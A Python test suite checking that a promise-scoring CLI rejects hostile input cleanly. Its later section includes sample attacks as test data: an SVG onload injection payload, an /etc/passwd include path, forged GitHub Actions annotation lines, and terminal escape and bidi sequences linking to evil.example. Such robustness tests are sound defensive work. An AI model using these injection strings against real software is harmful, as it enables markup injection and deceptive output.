"""Hostile input: every case gets a clear message and the documented exit code.

FORMAT.md §6: invalid rubric data exits 1; a top-level file that is missing, a
directory, a FIFO, unreadable or over the size limit exits 2. Every message names the
file (and the line where one is known), and no case prints a Python traceback. The
files are made in ``tmp_path`` at test time (the 200 MB file is sparse, so it costs no
disk). Memory and time on big inputs are measured by ``benchmarks/run.py``, not here.
"""

from __future__ import annotations

import importlib
import json
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import attrs
import pytest
from click.testing import CliRunner

import promisescore
from promisescore.cli import main
from promisescore.renderers import render
from promisescore.spreadsheets import ImportOptions

SRC = Path(__file__).resolve().parents[1] / "src"

BASE = """\
format = 1

[report]
title = "Hostile"
start = 2021-01-20
end = 2025-01-20

[scale]
preset = "politifact"

[[promises]]
id = "p1"
title = "Promise one"
deadline = "P100D"

[[evidence]]
id = "e1"
promise = "p1"
date = 2021-02-01
summary = "Something happened"
source = { title = "Order", kind = "record" }

[[assessments]]
promise = "p1"
date = 2021-03-01
rating = "kept"
evidence = ["e1"]
"""

# line numbers in BASE
WEIGHT_LINE = 14  # the `deadline` line of p1, replaced by `weight = ...`
RATING_LINE = 26


def _json_text(toml_text: str) -> str:
    import tomllib

    data = tomllib.loads(toml_text)

    def plain(value: object) -> object:
        if isinstance(value, dict):
            return {k: plain(v) for k, v in value.items()}
        if isinstance(value, list):
            return [plain(v) for v in value]
        if hasattr(value, "isoformat"):
            return value.isoformat()
        return value

    return json.dumps(plain(data), indent=2)


@attrs.frozen
class Case:
    """A hostile file: how to make it, the exit code of ``check`` and what it must say."""

    name: str
    make: Callable[[Path], Path]
    exit_code: int
    says: tuple[str, ...]
    line: int | None = None
    #: the file the message names, when not the one given (a problem in an included file)
    named: str | None = None


def _write(name: str, content: str | bytes) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        path = tmp / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", newline="")
        return path

    return make


def _weight(value: str) -> str:
    return BASE.replace('deadline = "P100D"', f"weight = {value}")


def _include(tree: dict[str, str | None], root: str = "root.toml") -> Callable[[Path], Path]:
    """Files relative to tmp (``None`` content: a directory); returns tmp/root."""

    def make(tmp: Path) -> Path:
        for rel, content in tree.items():
            path = tmp / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if content is None:
                path.mkdir()
            elif content.startswith("->"):
                path.symlink_to(content[2:].strip())
            elif content == "|fifo":
                os.mkfifo(path)
            else:
                path.write_text(content, encoding="utf-8")
        return tmp / root

    return make


def _fifo(tmp: Path) -> Path:
    path = tmp / "pipe.toml"
    os.mkfifo(path)
    return path


def _directory(tmp: Path) -> Path:
    path = tmp / "folder.toml"
    path.mkdir()
    return path


def _sparse(size: int, name: str) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        path = tmp / name
        with path.open("wb") as handle:
            handle.truncate(size)
        return path

    return make


LONG = "x" * 100_000
DEEP_TOML = "format = 1\nx = " + "[" * 100_000 + "]" * 100_000 + "\n"
DEEP_JSON = '{"format": 1, "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
EXTREME_DATES = (
    BASE.replace("start = 2021-01-20", "start = 0001-01-01")
    .replace("end = 2025-01-20", "end = 9999-12-31")
    .replace('deadline = "P100D"', "deadline = 9999-12-31\nmade_on = 0001-01-01")
    .replace("date = 2021-02-01", "date = 0001-01-01")
    .replace("date = 2021-03-01", "date = 9999-12-31")
)
CYCLE_ROOT = 'include = ["sub/a.toml"]\n' + BASE
INCLUDED = '[[promises]]\nid = "p2"\ntitle = "Included"\n'

HUGE = "1" + "0" * 400  # an int no float can hold: float() raises OverflowError


def _line_of(text: str, needle: str = "0000000000") -> int:
    """The line of ``text`` holding ``needle`` (the huge number, or an escape)."""
    return text[: text.index(needle)].count("\n") + 1


HUGE_TOML: dict[str, str] = {
    "promise-weight": _weight(HUGE),
    "category-weight": BASE.replace(
        'title = "Promise one"', 'title = "Promise one"\ncategory = "c"'
    )
    + f'\n[[categories]]\nid = "c"\ntitle = "C"\nweight = {HUGE}\n',
    "criterion-weight": BASE.replace(
        'deadline = "P100D"', f'criteria = [{{ id = "c1", title = "C", weight = {HUGE} }}]'
    ),
    "target-baseline": BASE.replace(
        'deadline = "P100D"', f'target = {{ metric = "m", baseline = {HUGE}, target = 1 }}'
    ),
    "target-target": BASE.replace(
        'deadline = "P100D"', f'target = {{ metric = "m", baseline = 0, target = -{HUGE} }}'
    ),
    "evidence-value": BASE.replace(
        'summary = "Something happened"', f'summary = "S"\nvalue = {HUGE}'
    ),
    "band-min": BASE + f'\n[grading]\nbands = [{{ grade = "A", min = {HUGE} }}]\n',
    "level-value": BASE.replace(
        'preset = "politifact"',
        f'levels = [{{ id = "kept", label = "Kept", value = {HUGE}, final = true }}]',
    ),
    "percent-value": BASE.replace('preset = "politifact"', 'preset = "percent"').replace(
        'rating = "kept"', f"value = {HUGE}"
    ),
}
HUGE_JSON: dict[str, str] = {
    place: _json_text(HUGE_TOML[place])
    for place in ("promise-weight", "evidence-value", "target-baseline", "band-min")
}
SURROGATE_JSON: dict[str, str] = {
    "title": _json_text(BASE).replace('"Promise one"', '"Promise \\ud800 one"'),
    "by": _json_text(BASE.replace('rating = "kept"', 'rating = "kept"\nby = "BY"')).replace(
        '"BY"', '"x\\udfff"'
    ),
    "key": _json_text(BASE).replace('"title": "Promise one"', '"title": "P", "\\ud83d": 1'),
    "meta": _json_text(BASE).replace(
        '"title": "Promise one"', '"title": "P", "meta": {"note": "\\udc00"}'
    ),
}

CASES: tuple[Case, ...] = (
    Case("invalid-utf8", _write("bad.toml", b'format = 1\ntitle = "\xff\xfe"\n'), 1, ("E002",), 2),
    Case("bom", _write("bom.toml", "\ufeff" + BASE), 0, ("ok",)),
    Case(
        "bom-error-line",
        _write("bom2.toml", "\ufeff" + BASE.replace('"kept"', '"kep"')),
        1,
        ("E305", "did you mean 'kept'"),
        RATING_LINE,
    ),
    Case("crlf", _write("crlf.toml", BASE.replace("\n", "\r\n")), 0, ("ok",)),
    Case(
        "crlf-error-line",
        _write("crlf2.toml", BASE.replace('"kept"', '"kep"').replace("\n", "\r\n")),
        1,
        ("E305",),
        RATING_LINE,
    ),
    Case(
        "crlf-json-error-line",
        _write("crlf.json", _json_text(BASE).replace('"kept"', '"kep"').replace("\n", "\r\n")),
        1,
        ("E305",),
    ),
    Case("deep-toml", _write("deep.toml", DEEP_TOML), 1, ("E009", "nested too deeply")),
    Case("deep-json", _write("deep.json", DEEP_JSON), 1, ("E009", "nested too deeply")),
    Case("long-title", _write("long.toml", BASE.replace('"Promise one"', f'"{LONG}"')), 0, ("ok",)),
    Case(
        "long-unknown-reference",
        _write(
            "longref.toml",
            BASE.replace('promise = "p1"\ndate = 2021-03', f'promise = "{LONG}"\ndate = 2021-03'),
        ),
        1,
        ("E201", "100,000 characters long, over the limit of 200"),  # ids: at most 200 (#29)
        24,
    ),
    Case("weight-nan", _write("nan.toml", _weight("nan")), 1, ("E203", "not nan"), WEIGHT_LINE),
    Case("weight-inf", _write("inf.toml", _weight("inf")), 1, ("E203", "not inf"), WEIGHT_LINE),
    Case("weight-neg-inf", _write("ninf.toml", _weight("-inf")), 1, ("E203",), WEIGHT_LINE),
    Case("weight-negative", _write("neg.toml", _weight("-1")), 1, ("E203", "-1"), WEIGHT_LINE),
    Case("weight-zero", _write("zero.toml", _weight("0")), 1, ("E203", "> 0"), WEIGHT_LINE),
    Case("weight-overflow", _write("huge.toml", _weight("1e400")), 1, ("E203",), WEIGHT_LINE),
    Case(
        "weight-json-nan",
        _write("nan.json", _json_text(BASE).replace('"deadline": "P100D"', '"weight": NaN')),
        1,
        ("E003", "NaN"),
        15,
    ),
    Case(
        "weight-json-infinity",
        _write("inf.json", _json_text(BASE).replace('"deadline": "P100D"', '"weight": -Infinity')),
        1,
        ("E003", "Infinity"),
        15,
    ),
    Case(
        "weights-sum-overflows",
        _write(
            "sum.toml",
            _weight("1e308")
            + '\n[[promises]]\nid = "p2"\ntitle = "Two"\nweight = 1.7976931348623157e308\n',
        ),
        1,
        ("E203", "add up to more than"),
        32,
    ),
    Case("extreme-dates", _write("dates.toml", EXTREME_DATES), 0, ("ok",)),
    Case(
        "deadline-past-9999",
        _write("d9999.toml", BASE.replace('"P100D"', '"P9999Y"')),
        1,
        ("E206", "after year 9999"),
        14,
    ),
    Case(
        "deadline-days-past-9999",
        _write(
            "d9999d.toml",
            BASE.replace("start = 2021-01-20", "start = 9999-12-01").replace(
                "end = 2025-01-20", ""
            ),
        ),
        1,
        ("E206", "out of range"),
        WEIGHT_LINE,
    ),
    Case(
        "duplicate-key-toml",
        _write("dup.toml", BASE.replace('title = "Promise one"', 'title = "a"\ntitle = "b"')),
        1,
        ("E105",),
        14,
    ),
    Case(
        "duplicate-key-json",
        _write("dup.json", '{"format": 1,\n "report": {"title": "a",\n  "title": "b"}}'),
        1,
        ("E105", "'title'"),
        3,
    ),
    Case(
        "duplicate-table-toml",
        _write("dup2.toml", BASE + '\n[report]\ntitle = "again"\n'),
        1,
        ("E105",),
        29,
    ),
    Case(
        "include-cycle",
        _include(
            {
                "root.toml": CYCLE_ROOT,
                "sub/a.toml": 'include = ["b.toml"]\n',
                "sub/b.toml": 'include = ["a.toml"]\n',
            }
        ),
        1,
        ("E007", "sub/a.toml -> ", "sub/b.toml"),
    ),
    Case(
        "include-self",
        _include({"root.toml": 'include = ["root.toml"]\n' + BASE}),
        1,
        ("E007",),
    ),
    Case(
        "include-dotdot",
        _include({"root.toml": CYCLE_ROOT, "sub/a.toml": 'include = ["../root.toml"]\n'}),
        1,
        ("E006", "'../root.toml'", "leaves the directory"),
    ),
    Case(
        "include-absolute",
        _include({"root.toml": 'include = ["/etc/passwd.toml"]\n' + BASE}),
        1,
        ("E006",),
    ),
    Case(
        "include-symlink-out",
        _include(
            {
                "outside/x.toml": INCLUDED,
                "tree/root.toml": 'include = ["link.toml"]\n' + BASE,
                "tree/link.toml": "-> ../outside/x.toml",
            },
            root="tree/root.toml",
        ),
        1,
        ("E006", "symbolic link"),
    ),
    Case(
        "include-glob-symlink-out",
        _include(
            {
                "outside/x.toml": INCLUDED,
                "tree/root.toml": 'include = ["parts/*.toml"]\n' + BASE,
                "tree/parts/link.toml": "-> ../../outside/x.toml",
            },
            root="tree/root.toml",
        ),
        1,
        ("E006",),
    ),
    Case(
        "include-directory",
        _include({"root.toml": 'include = ["dir.toml"]\n' + BASE, "dir.toml": None}),
        1,
        ("E001", "directory"),
        named="dir.toml",
    ),
    Case(
        "include-fifo",
        _include({"root.toml": 'include = ["*.toml"]\n' + BASE, "pipe.toml": "|fifo"}),
        1,
        ("E001", "not a regular file"),
        named="pipe.toml",
    ),
    Case("directory", _directory, 2, ("is a directory",)),
    Case("fifo", _fifo, 2, ("not a regular file",)),
    Case("missing", lambda tmp: tmp / "nope.toml", 2, ("no such file",)),
    Case("wrong-extension", _write("rubric.yaml", BASE), 2, ("unsupported file type",)),
    Case("nul-bytes-200mb", _sparse(200 * 2**20, "big.json"), 1, ("E003",), 1),
    *(
        Case(f"huge-int-{place}", _write(f"huge-{place}.{ext}", text), 1, ("E011",), _line_of(text))
        for place, ext, text in ((place, "toml", text) for place, text in HUGE_TOML.items())
    ),
    *(
        Case(
            f"huge-int-{place}-json",
            _write(f"huge-{place}.json", text),
            1,
            ("E011",),
            _line_of(text),
        )
        for place, text in HUGE_JSON.items()
    ),
    Case(
        "huge-int-5000-digits",
        _write("huge5000.toml", _weight("9" * 5000)),
        1,
        ("E011", "too large"),
        WEIGHT_LINE,
    ),
    Case(
        "huge-int-5000-digits-json",
        _write(
            "huge5000.json",
            _json_text(BASE).replace('"deadline": "P100D"', '"weight": ' + "9" * 5000),
        ),
        1,
        ("E011",),
        15,
    ),
    Case("huge-int-hex", _write("hex.toml", _weight("0x" + "f" * 300)), 1, ("E011",), WEIGHT_LINE),
    Case(
        "huge-int-underscores",
        _write("under.toml", _weight("1" + "_000" * 110)),
        1,
        ("E011",),
        WEIGHT_LINE,
    ),
    *(
        Case(
            f"lone-surrogate-{place}",
            _write(f"sur-{place}.json", text),
            1,
            ("E012",),
            _line_of(text, "\\ud"),
        )
        for place, text in SURROGATE_JSON.items()
    ),
    Case(
        "unicode-digits-in-duration",
        _write("digits.toml", BASE.replace('"P100D"', '"P\u0661\u0660\u0660D"')),
        1,
        ("E206",),
        WEIGHT_LINE,
    ),
    Case(
        "include-glob-matches-itself",
        _include({"root.toml": 'include = ["*.toml"]\n' + BASE, "more.toml": INCLUDED}),
        0,
        ("ok",),
    ),
    Case(
        "include-two-dotdot-links",
        _include(
            {
                "root.toml": 'include = ["**/*.toml"]\n' + BASE,
                "sub/more.toml": INCLUDED,
                "sub/up": "-> ..",
                "sub/deeper/up": "-> ../..",
            }
        ),
        0,
        ("ok",),
    ),
    Case(
        "include-symlink-loop",
        _include({"root.toml": 'include = ["loop.toml"]\n' + BASE, "loop.toml": "-> loop.toml"}),
        1,
        ("E005", "symbolic link loop"),
        1,
    ),
    Case(
        "include-missing-has-a-line",
        _include({"root.toml": 'include = ["nothing/*.toml"]\n' + BASE}),
        1,
        ("E005",),
        1,
    ),
    Case(
        "include-outside-has-a-line",
        _include({"root.toml": 'include = ["../x.toml"]\n' + BASE}),
        1,
        ("E006",),
        1,
    ),
    Case(
        "top-level-symlink-loop",
        _include({"loop.toml": "-> loop.toml"}, root="loop.toml"),
        2,
        ("symbolic links",),
    ),
)


def _output(result: object) -> str:
    return str(getattr(result, "output", ""))


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_check_reports_hostile_input(case: Case, tmp_path: Path) -> None:
    path = case.make(tmp_path)
    result = CliRunner().invoke(main, ["check", str(path)])
    out = _output(result)
    assert isinstance(result.exception, SystemExit | None), out
    assert result.exit_code == case.exit_code, out
    assert "Traceback" not in out
    assert path.name in out
    for text in case.says:
        assert text in out, out
    if case.line is not None:
        assert f"{path.name}:{case.line}:" in out, out


SCORED = [c for c in CASES if c.name != "nul-bytes-200mb"]


@pytest.mark.parametrize("case", SCORED, ids=[c.name for c in SCORED])
def test_score_json_on_hostile_input(case: Case, tmp_path: Path) -> None:
    path = case.make(tmp_path)
    result = CliRunner().invoke(main, ["score", str(path), "--format", "json"])
    out = _output(result)
    assert isinstance(result.exception, SystemExit | None), out
    assert result.exit_code == case.exit_code, out
    assert "Traceback" not in out
    if case.exit_code == 0:
        data = json.loads(result.stdout)
        assert data["schema_version"] == 1
    else:
        assert (case.named or path.name) in out


def test_too_big_file_is_refused_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _sparse(200 * 2**20, "big.toml")(tmp_path)
    monkeypatch.setenv("PROMISESCORE_MAX_FILE_BYTES", str(100 * 2**20))
    result = CliRunner().invoke(main, ["check", str(path)])
    assert result.exit_code == 2
    assert "209,715,200 bytes, over the limit of 104,857,600" in result.output
    assert "PROMISESCORE_MAX_FILE_BYTES" in result.output


def test_too_big_included_file_is_a_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _include({"root.toml": 'include = ["big.toml"]\n' + BASE})(tmp_path)
    _sparse(4096, "big.toml")(tmp_path)
    monkeypatch.setenv("PROMISESCORE_MAX_FILE_BYTES", "2048")
    result = CliRunner().invoke(main, ["check", str(root)])
    assert result.exit_code == 1
    assert "big.toml: E001" in result.output


def test_extreme_dates_score_and_explain(tmp_path: Path) -> None:
    path = _write("dates.toml", EXTREME_DATES)(tmp_path)
    rubric = promisescore.load(path)
    for as_of in ("0001-01-01", "9999-12-31", None):
        card = promisescore.score(rubric, as_of=as_of)
        for fmt in ("text", "json", "markdown", "csv"):
            assert render(card, fmt)
    result = CliRunner().invoke(main, ["explain", str(path), "p1", "--as-of", "9999-12-31"])
    assert result.exit_code == 0, result.output
    assert "Deadline 9999-12-31" in result.output


def test_library_raises_only_its_own_errors(tmp_path: Path) -> None:
    for case in CASES:
        if case.name == "nul-bytes-200mb":
            continue
        home = tmp_path / case.name
        home.mkdir()
        path = case.make(home)
        error: Exception | None = None
        try:
            promisescore.load(path)
        except promisescore.PromisescoreError as exc:
            error = exc
        if case.exit_code == 0:
            assert error is None, case.name
        elif case.exit_code == 2:
            assert isinstance(error, promisescore.InputFileError), case.name
        else:
            assert isinstance(error, promisescore.RubricError), case.name


SUBPROCESS = (
    "invalid-utf8",
    "deep-json",
    "fifo",
    "directory",
    "include-cycle",
    "weights-sum-overflows",
    "huge-int-promise-weight",
    "huge-int-5000-digits-json",
    "lone-surrogate-by",
    "include-symlink-loop",
    "top-level-symlink-loop",
)


@pytest.mark.parametrize("name", SUBPROCESS)
def test_real_subprocess(name: str, tmp_path: Path) -> None:
    case = next(c for c in CASES if c.name == name)
    path = case.make(tmp_path)
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    proc = subprocess.run(
        [sys.executable, "-m", "promisescore", "score", str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert proc.returncode == case.exit_code, proc.stderr
    assert "Traceback" not in proc.stderr + proc.stdout
    assert path.name in proc.stderr


def test_problems_in_included_files_keep_their_file_and_line(tmp_path: Path) -> None:
    evidence = (
        '[[evidence]]\nid = "{id}"\npromise = "{promise}"\ndate = 2021-02-0{day}\n'
        'summary = "s"\nsource = "x"\n\n'
    )
    first = "".join(evidence.format(id=f"a{i}", promise="p1", day=i + 1) for i in range(3))
    second = evidence.format(id="b0", promise="p1", day=1) + evidence.format(
        id="b1", promise="nope", day=2
    )
    root = _include(
        {
            "root.toml": 'include = ["parts/*.toml"]\n' + BASE,
            "parts/a.toml": first,
            "parts/b.toml": second,
        }
    )(tmp_path)
    result = promisescore.check(root)
    (problem,) = result.errors
    assert problem.code == "E301"
    assert problem.file is not None
    assert problem.file.endswith("parts/b.toml")
    assert problem.line == 10  # the `promise` line of b.toml's second table
    assert result.rubric is None


# =========================================================================== round two
# Issue 19: a second round of hostile input, found by probing the released CLI. Each
# reproduction ends in a clear message with the documented exit code, no traceback, no
# hang, and nothing replaced that was not a regular output file.


def _rubric(tmp: Path, text: str, name: str = "r.toml") -> Path:
    path = tmp / name
    path.write_text(text, encoding="utf-8")
    return path


def _invoke(args: list[str]) -> Any:
    result = CliRunner().invoke(main, args)
    assert isinstance(result.exception, SystemExit | None), result.output
    assert "Traceback" not in result.output
    return result


# -- 1. the SVG badge ------------------------------------------------------------------

ATTACK = 'A" onload="alert(document.domain)" x="'


def _attributes(svg: str) -> set[str]:
    import xml.etree.ElementTree as ET

    return {name for element in ET.fromstring(svg).iter() for name in element.attrib}


def test_badge_label_cannot_add_an_event_handler(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["badge", str(path), "--label", ATTACK])
    assert result.exit_code == 0
    assert "onload" not in _attributes(result.stdout)
    import xml.etree.ElementTree as ET

    root = ET.fromstring(result.stdout)
    assert root.attrib["aria-label"].startswith(ATTACK + ": ")


def test_badge_grade_cannot_add_an_event_handler(tmp_path: Path) -> None:
    bands = f"\n[grading]\nbands = [{{ grade = '{ATTACK}', min = 0 }}]\n"
    path = _rubric(tmp_path, BASE + bands)
    result = _invoke(["badge", str(path)])
    assert result.exit_code == 0, result.output
    assert "onload" not in _attributes(result.stdout)
    assert "&quot;" in result.stdout


# -- 2. huge integers --------------------------------------------------------------------


@pytest.mark.parametrize("place", sorted(HUGE_TOML))
@pytest.mark.parametrize("command", ["score", "report", "badge", "export"])
def test_huge_int_fails_every_command_cleanly(place: str, command: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, HUGE_TOML[place])
    args = [command, str(path)] + (["--to", str(tmp_path / "out")] if command == "export" else [])
    result = _invoke(args)
    assert result.exit_code == 1, result.output
    assert "E011" in result.output
    assert "OverflowError" not in result.output


@pytest.mark.parametrize("place", sorted(HUGE_TOML))
def test_loads_raises_rubric_error_for_huge_int(place: str) -> None:
    with pytest.raises(promisescore.RubricError) as caught:
        promisescore.loads(HUGE_TOML[place])
    huge = [p for p in caught.value.errors if p.code == "E011"]
    assert [p.line for p in huge] == [_line_of(HUGE_TOML[place])]
    assert "401-digit number" in huge[0].message


def test_huge_int_in_meta_is_kept_as_written(tmp_path: Path) -> None:
    """``meta`` is free-form and never computed with: a huge int there loads, renders
    in every format and survives a round trip."""
    text = BASE.replace('title = "Promise one"', f'title = "Promise one"\nmeta = {{ n = {HUGE} }}')
    rubric = promisescore.loads(text)
    assert rubric.promises[0].meta["n"] == int(HUGE)
    assert promisescore.loads(promisescore.dumps(rubric)) == rubric
    assert promisescore.loads(promisescore.dumps(rubric, "json"), "json") == rubric
    card = promisescore.score(rubric)
    for fmt in ("text", "json", "markdown", "csv", "html", "badge"):
        assert render(card, fmt)
    path = _rubric(tmp_path, text)
    assert _invoke(["export", str(path), "--to", str(tmp_path / "out")]).exit_code == 0


def test_huge_int_in_code_is_a_rubric_error_not_overflow() -> None:
    from promisescore.model import Category, Criterion, Evidence, GradeBand, Promise, Target

    builders: list[Callable[[], object]] = [
        lambda: Promise("p", "P", weight=10**400),
        lambda: Category("c", "C", weight=10**400),
        lambda: Criterion("c", "C", weight=-(10**5000)),
        lambda: Target("m", 10**400, 1),
        lambda: GradeBand("A", 10**400),
        lambda: Evidence("e", "p", date(2021, 1, 1), "s", promisescore.Source("x"), value=10**400),
    ]
    for build in builders:
        with pytest.raises(promisescore.RubricError) as caught:
            build()
        assert "too large" in str(caught.value) or "finite" in str(caught.value)


def test_huge_number_in_a_csv_cell(tmp_path: Path) -> None:
    from promisescore.spreadsheets import CsvText, ReportInfo, import_tables

    header = "id,title,weight,criteria\n"
    cells = [
        f"p1,One,{HUGE},\n",  # a number cell: infinite, refused as a weight
        f'p1,One,1,"[{{""id"": ""c"", ""title"": ""C"", ""weight"": {HUGE}}}]"\n',
    ]
    for row in cells:
        with pytest.raises(promisescore.RubricError) as caught:
            import_tables(
                CsvText("promises.csv", header + row),
                options=ImportOptions(scale="politifact", report=ReportInfo("T", date(2021, 1, 1))),
            )
        assert all(p.line == 2 for p in caught.value.errors), caught.value.problems
        assert {p.code for p in caught.value.errors} <= {"E011", "E203"}


def test_huge_fail_under_in_pyproject(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = _rubric(tmp_path, BASE)
    (tmp_path / "pyproject.toml").write_text(f"[tool.promisescore]\nfail_under = {HUGE}\n")
    monkeypatch.chdir(tmp_path)
    result = _invoke(["check", str(path)])
    assert result.exit_code == 2
    assert "fail_under must be between 0 and 1" in result.output


# -- 3. lone surrogates ------------------------------------------------------------------


@pytest.mark.parametrize("place", sorted(SURROGATE_JSON))
@pytest.mark.parametrize("command", ["check", "score", "report", "explain"])
def test_lone_surrogate_is_refused_at_load(place: str, command: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, SURROGATE_JSON[place], "r.json")
    args = [command, str(path)] + (["p1"] if command == "explain" else [])
    result = _invoke(args)
    assert result.exit_code == 1, result.output
    assert "E012" in result.output
    assert "UnicodeEncodeError" not in result.output


def test_loads_refuses_raw_surrogates_in_a_string() -> None:
    text = BASE.replace('"Promise one"', '"Promise \ud800 one"')
    with pytest.raises(promisescore.RubricError) as caught:
        promisescore.loads(text)
    assert [p.code for p in caught.value.errors] == ["E012"]
    assert caught.value.errors[0].line == 13


# -- 4. -o never replaces what is not a regular file ---------------------------------------


def test_output_to_a_device_keeps_the_device(tmp_path: Path) -> None:
    """``-o /dev/null`` as root: tested on a private node with the same device numbers
    as /dev/null (made in tmp_path), so a regression never replaces the real one."""
    import stat

    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, OSError):
        pytest.skip("making a device node needs root (as in a CI container)")
    path = _rubric(tmp_path, BASE)
    before = os.stat(device)
    result = _invoke(["report", str(path), "-o", str(device)])
    assert result.exit_code == 0, result.output
    after = os.stat(device)
    assert stat.S_ISCHR(after.st_mode)
    assert (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
    link = tmp_path / "null-link"
    link.symlink_to(device)
    assert _invoke(["badge", str(path), "-o", str(link)]).exit_code == 0
    assert link.is_symlink()
    assert stat.S_ISCHR(os.stat(device).st_mode)


def test_output_dev_stdout_writes_where_the_shell_points(tmp_path: Path) -> None:
    """``-o /dev/stdout >> log``: appended to the log (the same file, not replaced)."""
    path = _rubric(tmp_path, BASE)
    log = tmp_path / "log.txt"
    log.write_text("first line\n")
    inode = log.stat().st_ino
    with log.open("ab") as handle:
        proc = subprocess.run(
            [sys.executable, "-m", "promisescore", "report", str(path), "-o", "/dev/stdout"],
            stdout=handle,
            stderr=subprocess.PIPE,
            text=False,
            env={**os.environ, "PYTHONPATH": str(SRC)},
            timeout=60,
            check=False,
        )
    assert proc.returncode == 0, proc.stderr
    assert log.stat().st_ino == inode
    assert log.read_text().startswith("first line\nHostile\n")


def test_output_symlink_writes_its_target_and_stays_a_link(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    target = tmp_path / "real.md"
    target.write_text("old\n")
    link = tmp_path / "link.md"
    link.symlink_to("real.md")
    result = _invoke(["report", str(path), "--format", "markdown", "-o", str(link)])
    assert result.exit_code == 0, result.output
    assert link.is_symlink()
    assert target.read_text().startswith("## Hostile")
    dangling = tmp_path / "dangling.md"
    dangling.symlink_to("new.md")
    assert _invoke(["report", str(path), "-o", str(dangling)]).exit_code == 0
    assert dangling.is_symlink()
    assert (tmp_path / "new.md").read_text().startswith("Hostile")


def test_output_fifo_is_written_through(tmp_path: Path) -> None:
    import threading

    path = _rubric(tmp_path, BASE)
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = _invoke(["report", str(path), "-o", str(fifo)])
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert received
    assert received[0].startswith(b"Hostile")
    assert fifo.is_fifo()


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (lambda tmp: str(tmp / "loop"), "symbolic link loop"),
        (lambda tmp: "", "empty path"),
        (lambda tmp: str(tmp), "is a directory"),
        (lambda tmp: str(tmp / "input-link.toml"), "it is an input file"),
    ],
    ids=["symlink-loop", "empty", "directory", "symlink-to-input"],
)
def test_output_refused_clearly(make: Callable[[Path], str], says: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "input-link.toml").symlink_to(path)
    result = _invoke(["report", str(path), "-o", make(tmp_path)])
    assert result.exit_code == 2, result.output
    assert says in result.output
    assert path.read_text() == BASE
    assert (tmp_path / "input-link.toml").is_symlink()


def test_library_write_atomic_refuses_a_symlink_loop(tmp_path: Path) -> None:
    from promisescore.safe_write import OutputError, refuse_inputs, write_atomic

    loop = tmp_path / "loop"
    loop.symlink_to("loop")
    refuse_inputs(loop, [tmp_path / "input.toml"])  # no RuntimeError from Path.resolve
    with pytest.raises(OutputError, match="symbolic link loop"):
        write_atomic(loop, "x")


# -- 5. newlines cannot forge lines -----------------------------------------------------------

FORGED = "x\n::error file=README.md,line=1::forged"


def test_check_github_cannot_be_forged_by_an_assessor(tmp_path: Path) -> None:
    text = BASE.replace('rating = "kept"', f'rating = "kept"\nby = """{FORGED}"""')
    path = _rubric(tmp_path, text)
    result = _invoke(["check", str(path), "--format", "github", "--strict"])
    commands = [line for line in result.stdout.splitlines() if line.lstrip().startswith("::")]
    assert not any("README.md" in line for line in commands), result.stdout
    assert "forged" in result.stdout  # shown, escaped, on a line of its own kind


def test_check_github_cannot_be_forged_by_a_file_name(tmp_path: Path) -> None:
    folder = tmp_path / "::error file=README.md,line=1::forged"
    folder.mkdir()
    path = _rubric(folder, BASE.replace('rating = "kept"', 'rating = "kep"'))
    result = _invoke(["check", str(path), "--format", "github"])
    assert result.exit_code == 1
    for line in result.stdout.splitlines():
        if line.startswith("::"):
            assert line.startswith("::error file=")
            assert "README.md," not in line
        assert not line.lstrip().startswith("::error file=README.md")


def test_text_problem_lines_cannot_be_forged(tmp_path: Path) -> None:
    fake = "\nr.toml:1: E999 forged problem"
    text = BASE.replace('rating = "kept"', f'rating = "kept{fake}"'.replace("\n", "\\n"))
    path = _rubric(tmp_path, text)
    result = _invoke(["check", str(path)])
    assert result.exit_code == 1
    assert not any(line.startswith("r.toml:1: E999") for line in result.output.splitlines())
    assert "\\nr.toml:1: E999" in result.output


# -- 6. terminal escapes and bidi overrides -------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07 \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ \x1b[2J \u202eevil"


def _escaped_rubric(tmp: Path) -> Path:
    title = json.dumps(ESCAPES)
    text = (
        BASE.replace('title = "Hostile"', f"title = {title}")
        .replace('title = "Promise one"', f"title = {title}")
        .replace('rating = "kept"', f'rating = "kept"\nnote = {title}\nby = {title}')
        .replace('summary = "Something happened"', f"summary = {title}")
    )
    return _rubric(tmp, text)


@pytest.mark.parametrize(
    "args",
    [
        ["report"],
        ["report", "--format", "markdown"],
        ["score"],
        ["explain", "{path}", "p1"],
        ["timeline"],
        ["check", "--strict"],
        ["check", "--format", "github"],
        ["diff", "{path}@2021-02-01", "{path}"],
        ["compare"],
        ["compare", "--format", "markdown"],
    ],
    ids=lambda a: "-".join(x for x in a if not x.startswith("{")),
)
def test_terminal_escapes_never_reach_the_terminal(args: list[str], tmp_path: Path) -> None:
    path = _escaped_rubric(tmp_path)
    argv = [a.replace("{path}", str(path)) for a in args]
    if not any("{path}" in a for a in args):
        argv.insert(1, str(path))
    result = _invoke(argv)
    assert result.exit_code in (0, 1), result.output
